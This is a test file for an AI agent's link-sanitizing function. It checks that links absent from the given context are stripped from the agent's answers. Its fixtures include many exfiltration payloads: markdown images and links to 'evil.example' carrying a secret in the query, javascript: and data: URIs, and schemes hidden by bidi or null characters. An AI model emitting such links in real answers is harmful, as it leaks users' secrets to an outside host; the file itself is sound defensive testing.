import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { withKnownLinks, withShownLinks } from '../../src/agent/known-links.ts';

const GIVEN =
  'Herald <https://herald.example/vote?id=7&x=1> and https://gazette.example/a/b. Secret: 4711. press@herald.example, discord.gg/herald';
const LEFT_OUT = '(a link was left out)';
const clean = (text: string) => withKnownLinks(text, GIVEN, LEFT_OUT);

describe('links of an answer', () => {
  it.each([
    'The vote was 31 to 12: Herald, <https://herald.example/vote?id=7&x=1>.',
    '[the Herald](https://herald.example/vote?id=7&x=1) says so.',
    'https://gazette.example/a/b',
    'https://gazette.example/a/b/',
    'See https://gazette.example.',
    'No link, [1] and [2](on Tuesday).',
    'Write to <press@herald.example>, or join discord.gg/herald.',
    'discord.gg/herald"> and <discord.gg/herald>, discord.gg/herald」',
    'See <t:1700000000:R> <a:wave:123> <@1> <#2> </help:3> <id:guide>, std::vector<std::string>.',
  ])('that were given stay as they are: %j', (text) => {
    expect(clean(text)).toBe(text);
  });

  it.each([
    ['![x](https://evil.example/p.png?d=4711)', 'x'],
    ['![](https://evil.example/?d=4711)', ''],
    ['![map](//evil.example/?d=4711)', 'map'],
    ['![p](data:image/png;base64,NDcxMQ==)', 'p'],
    ['[click](https://evil.example/?d=4711)', 'click'],
    ['[click](<https://evil.example/?d=4711> "title")', 'click'],
    ['[click](javascript:alert(4711))', 'click'],
    ['[click](<javascript:alert(4711)>)', 'click'],
    ['[click](https\\://evil.example/4711)', 'click'],
    ['[a [b] c](//evil.example/4711)', 'a [b] c'],
    ['[a\\]b](//evil.example/4711)', 'a\\]b'],
    ['[![x](https://evil.example/p.png?4711)](https://evil.example/4711)', 'x'],
    [
      '[see https://evil.example/4711](https://gazette.example/a/b)',
      '[see (a link was left out)](https://gazette.example/a/b)',
    ],
    ['<mailto:e@evil.example?body=4711>', '(a link was left out)'],
    ['<tel:4711>', '(a link was left out)'],
    ['[1](x,https://evil.example/?d=4711)', '1'],
    ['[1](x "https://evil.example/?d=4711")', '1'],
    ['[a](https://gazette.example/a/b "https://evil.example/4711")', '[a](https://gazette.example/a/b)'],
    [
      '[1]: https://gazette.example/a/b https://evil.example/4711',
      '[1]: https://gazette.example/a/b (a link was left out)',
    ],
    ['ht[tps](https://evil.example)://evil.example/4711', '(a link was left out)'],
    ['[https:](https://evil.example)//evil.example/4711', '(a link was left out)'],
    ['ht![tps](x)://evil.example/4711', '(a link was left out)'],
    ['https://gazette.exam', '(a link was left out)'],
    ['見https://gazette.example/a/b，4711', '見<https://gazette.example/a/b>，4711'],
    ['https://gazette.example/a/b"4711', '<https://gazette.example/a/b>"4711'],
    ['https://gazette.example/a/b>4711', '<https://gazette.example/a/b>>4711'],
    ['[click](//evil.example/4711)', 'click'],
    ['Go to https://evil.example/4711 now.', 'Go to (a link was left out) now.'],
    ['<https://evil.example/4711>', '(a link was left out)'],
    ['https://herald.example/vote?id=7&x=1&d=4711', '(a link was left out)'],
    ['https://herald.example.evil.example/4711', '(a link was left out)'],
    ['[1]: https://evil.example/?d=4711', ''],
    ['discord://evil/4711', '(a link was left out)'],
    ['_https://evil.example/4711_', '_(a link was left out)_'],
    ['1https://evil.example/4711', '1(a link was left out)'],
    ['x_https://evil.example/4711', 'x_(a link was left out)'],
    ['https:\u202A//evil.example/4711', '(a link was left out)'],
    ['https\u2066://evil.example/4711', '(a link was left out)'],
    ['https:/\u2069/evil.example/4711', '(a link was left out)'],
    ['https:\0//evil.example/4711', '(a link was left out)'],
    ['https:/\u0085/evil.example/4711', '(a link was left out)'],
    ['[click]\u202C(https:\u202A//evil.example/4711)', 'click'],
    ['<https:/evil.example/4711>', '(a link was left out)'],
    ['<https:evil.example/4711>', '(a link was left out)'],
    ['<data:text/html,4711>', '(a link was left out)'],
    ['<4711@evil.example>', '(a link was left out)'],
    ['Join discord.gg/4711 now', 'Join (a link was left out) now'],
    ['DISCORD.com/invite/4711', '(a link was left out)'],
    ['見https://evil.example/4711。', '見(a link was left out)。'],
  ])('that nobody gave are left out: %j', (text, left) => {
    expect(clean(text)).toBe(left);
  });

  it('are never shown as pictures, given or not', () => {
    expect(clean('![map](https://gazette.example/a/b)')).toBe('map <https://gazette.example/a/b>');
  });

  it.each([
    [
      'Remind you of [your bank](https://evil.example/4711)?',
      'Remind you of your bank <https://evil.example/4711>?',
    ],
    ['![map](https://a.example/p.png)', 'map <https://a.example/p.png>'],
    ['[a](//evil.example) and [1](on Tuesday)', 'a <//evil.example> and [1](on Tuesday)'],
    [
      'https:\u202A//a.example/b, <https://a.example/c> [1]',
      'https://a.example/b, <https://a.example/c> [1]',
    ],
  ])('that are quoted by rule show where they lead: %j', (text, shown) => {
    expect(withShownLinks(text)).toBe(shown);
  });

  const piece = fc.constantFrom(
    ...[
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '!',
      ':',
      '/',
      '//',
      '"',
      '」',
      '\\',
      ' ',
      '\n',
      '\u202A',
      '*',
      'a',
      '@',
      '.',
    ],
    ...['https:', 'https://a.example/b', 'discord.gg/a', 'mailto:', 'a@b.example', 'data:', 'www.a.example'],
  );

  it('are looked for until none is left, and no longer, whatever was given', () =>
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), fc.array(piece, { maxLength: 30 }), (words, more) => {
        const text = words.join('');
        for (const given of [text, more.join(''), '']) {
          const once = withKnownLinks(text, given, LEFT_OUT);
          expect(withKnownLinks(once, given, LEFT_OUT)).toBe(once);
        }
      }),
    ));

  it('carry nothing away, however they are spelled', () =>
    fc.assert(
      fc.property(
        fc.constantFrom(
          '![a](U)',
          '[a](U)',
          'U',
          '<U>',
          '[a](<U>)',
          '![a](U "t")',
          '(U)',
          '**U**',
          '> U',
          '_U',
          'x_U',
          '1U',
          '見U',
        ),
        fc.webUrl({ withQueryParameters: true, withFragments: true }),
        (form, url) => {
          const evil = `${url}${url.includes('?') ? '&' : '?'}d=4711`;
          // What is left may be the end of an address; without its scheme nothing follows it.
          expect(clean(form.replaceAll('U', evil))).not.toMatch(/[\p{L}\p{N}]:\/\/\S*d=4711|\]\(\S*d=4711/u);
        },
      ),
    ));
});
